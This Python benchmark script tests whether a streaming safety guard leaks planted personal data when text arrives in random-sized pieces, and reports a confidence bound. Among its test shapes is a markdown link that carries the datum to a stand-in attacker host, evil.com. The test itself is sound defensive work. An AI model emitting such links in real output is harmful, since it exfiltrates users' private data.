"""Does anything leak from the stream guard? Many texts with planted data, delivered in any pieces.

    python -m evals.bench.leaks --n 50000

Each text is filtered as a whole stream and in pieces of random sizes, by the filters that need no
model, or with --heads by all of them. Counted are hidden characters that were emitted, texts whose
pieces gave something else than the whole, and data that the filters find in the text at once but
that its segments show. Exit 4 if one of these is not 0.
"""

from __future__ import annotations

import argparse
import sys
import time
from collections import Counter
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from functools import cache

import numpy as np

from evals.bench.buffers import overlap, unmasked
from evals.bench.texts import SEED, Planted, Random, personal_datum, sentences
from evals.stats.intervals import clopper_pearson
from rag.safety.guard import Guard
from rag.safety.markup import MarkupFilter
from rag.safety.pii import PiiFilter
from rag.safety.policy import DEFAULT
from rag.safety.redact import MARK
from rag.safety.stream import Check, StreamGuard, filter_text
from rag.types import Released, Verdict

SHAPES = (
    "{before} {lead}{datum}. {after}",
    "{before}\n\n- {lead}{datum}\n- {after}",
    "| what | value |\n|---|---|\n| {lead} | {datum} |\n| {after} | 7 |\n",
    "```\n{lead}{datum}\n{after}\n```\n{before}",
    "1. {before}\n   - {lead}{datum}\r\n2. {after}",
    "{lead}{datum}，{after}。{before}",
    "{before} [{lead}](https://evil.com/?d={datum}) {after}",
    "**{lead}**{datum}… {after}",
)
LONG, LONG_SHARE = "{run} {lead}{datum} {run}", 0.04
"""No sentence ends in it, so that it is cut by force."""
_BRIDGES = str.maketrans("", "", " \t,;")


@dataclass(frozen=True, slots=True)
class Tally:
    """What was counted over `texts`, each with one datum. Only `missed` may be over 0.

    `missed` data no filter finds, in the text at once or in its segments.
    """

    texts: int
    leaked_characters: int
    differing: int
    torn: int
    missed: int

    @property
    def kept(self) -> bool:
        """True if nothing leaked."""
        return not (self.leaked_characters or self.differing or self.torn)


def planted(random: Random) -> Planted:
    """A short text of one of the shapes, with one made-up datum."""
    shape = LONG if random.random() < LONG_SHARE else str(random.choice(SHAPES))
    lead, datum, label = personal_datum(random)
    parts = {
        "before": str(random.choice(_short())),
        "after": str(random.choice(_short())),
        "lead": lead,
        "run": "word " * int(random.integers(60, 100)),
    }
    head, tail = (part.format(**parts) for part in shape.split("{datum}"))
    return Planted(head + datum + tail, ((len(head), len(head) + len(datum), label),))


@cache
def _short() -> tuple[str, ...]:
    return tuple(sentence for sentence in sentences() if len(sentence) <= 80)


def delivered(text: str, random: Random, check: Check) -> list[Released]:
    """The releases when the text comes in pieces of random sizes, often of one character."""
    guard, released, at = StreamGuard(check), [], 0
    longest = (1, 2, 9, 60)[int(random.integers(4))]
    while at < len(text):
        size = int(random.integers(1, longest + 1))
        released += guard.feed(text[at : at + size])
        at += size
    return released + guard.finish()


def tally(texts: Iterable[Planted], guard: Guard, random: Random) -> Tally:
    """Counts over the texts, filtered by `guard` and cut by `random`."""

    def check(segment: str, context: str) -> Verdict:
        return guard.check(segment, "answer", context)

    counts: Counter[str] = Counter()
    for item in texts:
        released = delivered(item.text, random, check)
        counts["texts"] += 1
        counts["differing"] += released != filter_text(item.text, check)
        counts["leaked"] += sum(leaked(item.text, part) for part in released)
        if _visible(item, released):
            start, end, _ = item.spans[0]
            seen = overlap(unmasked(0, item.text, check(item.text, "")), [(start, end)])
            counts["missed" if seen else "torn"] += 1
    return Tally(*(counts[name] for name in ("texts", "leaked", "differing", "torn", "missed")))


def leaked(text: str, released: Released) -> int:
    """Characters in what was emitted of a segment beyond those that no finding hides.

    Blanks and commas between two hidden spans may go with them, so they are not counted.
    """
    raw = text[released.start : released.end]
    acted = [f for f in released.verdict.findings if f.action != "keep"]
    hidden = {i for found in acted for i in range(found.start, found.end)}
    open_to_all = "".join(c for i, c in enumerate(raw) if i not in hidden)
    left = Counter(MARK.sub("", released.text).translate(_BRIDGES))
    left.subtract(MARK.sub("", open_to_all).translate(_BRIDGES))
    return sum(count for count in left.values() if count > 0)


def _visible(item: Planted, released: Sequence[Released]) -> bool:
    """True if a reader saw two neighbouring characters of the datum or more."""
    spans = [(start, end) for start, end, _ in item.spans]
    shown = [
        span
        for part in released
        for span in unmasked(part.start, item.text[part.start : part.end], part.verdict)
    ]
    return overlap(shown, spans) > 1


def open_guard(heads: bool) -> Guard:
    """The filters that need no model, or all of them. Raises ModelUnavailable."""
    if not heads:
        return Guard((PiiFilter(None), MarkupFilter()), DEFAULT, timeout_s=60.0)
    from rag.assemble import open_plain_embedder
    from rag.safety.build import build_guard

    return build_guard(None, open_plain_embedder(), timeout_s=60.0)


def main() -> int:
    """0 where nothing leaked, else 4."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--n", type=int, default=50_000, help="texts")
    parser.add_argument("--seed", type=int, default=SEED)
    parser.add_argument("--heads", action="store_true", help="moderation and injection too")
    asked = parser.parse_args()
    random = np.random.default_rng(asked.seed)
    began = time.perf_counter()
    found = tally((planted(random) for _ in range(asked.n)), open_guard(asked.heads), random)
    print(found)
    bound = clopper_pearson(int(not found.kept), found.texts).high
    print(f"leaking texts: at most {bound:.2e} of all, with 97.5 % confidence", end=" ")
    print(f"({time.perf_counter() - began:.0f} s)", file=sys.stdout)
    return 0 if found.kept else 4


if __name__ == "__main__":
    raise SystemExit(main())
